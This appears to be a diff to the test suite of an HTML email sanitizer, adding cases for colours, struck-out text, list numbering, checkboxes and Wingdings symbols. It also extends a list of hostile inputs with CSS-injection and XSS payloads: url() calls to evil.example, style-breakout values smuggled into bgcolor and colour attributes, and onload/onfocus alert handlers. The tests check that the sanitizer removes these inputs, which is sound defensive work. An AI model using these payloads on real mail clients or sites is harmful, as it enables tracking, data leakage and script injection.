@@ -36,6 +36,104 @@ it.each([
   expect(shown(html)).toBe(html);
 });
 
+describe('colours', () => {
+  it.each([
+    [
+      'Word writes the head of a table with the ground in a shorthand',
+      "<td style='border:solid #4472C4 1.0pt;background:#4472C4;padding:0cm'><span style='color:white'>x</span></td>",
+      '<td style="background-color:#4472c4"><span style="color:#ffffff">x</span></td>',
+    ],
+    [
+      'a highlighter',
+      '<span style="background:yellow;mso-highlight:yellow">x</span>',
+      '<span style="background-color:#ffff00">x</span>',
+    ],
+    [
+      'a row',
+      '<table><tr bgcolor="003366" style="color:#fff"><td>x</td></tr></table>',
+      '<table><tr style="color:#ffffff;background-color:#003366"><td>x</td></tr></table>',
+    ],
+    [
+      'a whole mail',
+      '<body bgcolor="#000000" text="#ffffff"><p>x</p></body>',
+      '<div style="color:#ffffff;background-color:#000000"><p>x</p></div>',
+    ],
+    [
+      'green of Word, and what is half transparent',
+      '<p style="color:#00B050">x</p><p style="background:rgba(0,0,0,.5)">y</p>',
+      '<p style="color:#00b050">x</p><p style="background-color:#808080">y</p>',
+    ],
+    [
+      'behind a picture that is not shown',
+      '<p style="color:white;background:navy url(https://x.example/a.png) no-repeat">x</p>',
+      '<p style="color:#ffffff;background-color:#000080">x</p>',
+    ],
+  ])('are kept: %s', (_, html, clean) => {
+    expect(shown(html)).toBe(clean);
+  });
+
+  it.each([
+    ['by a class', '<style>.h{background:#003}</style><div class=h><font color=white>x</font></div>'],
+    ['by a gradient', '<div style="background-image:linear-gradient(#003,#006);color:#fff">x</div>'],
+    ['by a picture', '<table background="https://x.example/a.png"><td style="color:#eee">x</td></table>'],
+    ['by a variable', '<p style="background:var(--dark);color:hsl(0,0%,100%)">x</p>'],
+    ['by none: it was to be unseen', '<p style="color:#fffffe">x</p><p style="color:transparent">y</p>'],
+  ])('letters are not kept where their ground is given %s', (_, html) => {
+    expect(shown(html)).not.toContain('color');
+  });
+
+  it('on a ground that is kept the letters can be read, whatever gave them their colour', () => {
+    expect(shown('<td bgcolor="navy">x <a name="y">y</a></td>')).toBe(
+      '<td style="color:#ffffff;background-color:#000080">x <a style="color:#ffffff">y</a></td>',
+    );
+    expect(shown('<div style="background:navy"><p style="color:#111">x</p></div>')).toBe(
+      '<div style="color:#ffffff;background-color:#000080"><p>x</p></div>',
+    );
+    // Outside of it everything is as it was.
+    expect(shown('<b style="background:navy">x</b><i style="color:white">y</i>')).toContain('<i>y</i>');
+  });
+});
+
+it.each([
+  ['<strike>a</strike> <s>b</s> <del>c</del>', '<s>a</s> <s>b</s> <del>c</del>'],
+  [
+    '<i style="text-decoration: underline line-through red">a</i>',
+    '<i style="text-decoration:underline line-through">a</i>',
+  ],
+  ['<i style="text-decoration-line:line-through">a</i>', '<i style="text-decoration:line-through">a</i>'],
+])('what is struck out is: %s', (html, clean) => {
+  expect(shown(html)).toBe(clean);
+});
+
+it.each([
+  [
+    '<ol start=3 type=1><li>a</li><li value=7>b</li></ol>',
+    '<ol start="3" style="list-style-type:decimal"><li>a</li><li value="7">b</li></ol>',
+  ],
+  ['<ol type=A reversed><li>a</ol>', '<ol reversed style="list-style-type:upper-alpha"><li>a</li></ol>'],
+  [
+    '<ol style="list-style:lower-roman inside"><li>a</li></ol>',
+    '<ol style="list-style-type:lower-roman"><li>a</li></ol>',
+  ],
+  ['<ol start="1;x" style="list-style-type:url(x)"><li value="-">a</li></ol>', '<ol><li>a</li></ol>'],
+])('the numbers of lists are those that were written: %s', (html, clean) => {
+  expect(shown(html)).toBe(clean);
+});
+
+it('boxes are ticked or not, as in a form', () => {
+  expect(shown('<input type=checkbox checked> a <INPUT TYPE=radio> b <input type=text value=x>')).toBe(
+    '<span>☒</span> a <span>☐</span> b ',
+  );
+});
+
+it('what is a sign in a font of Windows is that sign', () => {
+  expect(
+    shown(
+      '<font face="Wingdings">&#254; &lt;</font> <span style=\'font-family:Wingdings\'>&#61608;<b style="font-family:Arial">&#252;</b></span> <span style="font-family:Symbol">&#183;</span> &#254;',
+    ),
+  ).toBe('<font>☑ &lt;</font> <span>☐<b>ü</b></span> <span>•</span> þ');
+});
+
 it('shows pictures of the mail, and of others their words', () => {
   expect(shown('<img src="cid:logo@demo" alt="Logo">')).toBe(
     '<img alt="Logo" src="data:image/png;base64,iVBORw0KGgo=" />',
@@ -89,6 +187,14 @@ const HOSTILE = [
   '<style>@import "https://evil.example/x.css"; input[value^=a]{background:url(https://evil.example/a)}</style>',
   '<p style="background:url(https://evil.example/x)">x</p>',
   '<p style="background-color:url(https://evil.example/x)">x</p>',
+  '<p style="background:#fff url(//evil.example/x)">x</p>',
+  '<p style="background:red;}body{background:url(//evil.example)}">x</p>',
+  '<tr bgcolor="url(https://evil.example/x)" background="https://evil.example/x"><td>x</tr>',
+  '<body bgcolor="red;background:url(https://evil.example/x)" text="red}" onload=alert(1)>x</body>',
+  '<font color="red;background:url(//evil.example)" face="Wingdings" onclick=alert(1)>x</font>',
+  '<ol type="constructor" start="url(//evil.example)" style="list-style:url(//evil.example) inside"><li>x</ol>',
+  '<i style="text-decoration:underline url(//evil.example)">x</i>',
+  '<input type=checkbox onfocus=alert(1) autofocus checked id=x>',
   '<p style="color:expression(alert(1))">x</p>',
   '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99">x</p>',
   '<p style="display:none;font-size:0">x</p>',
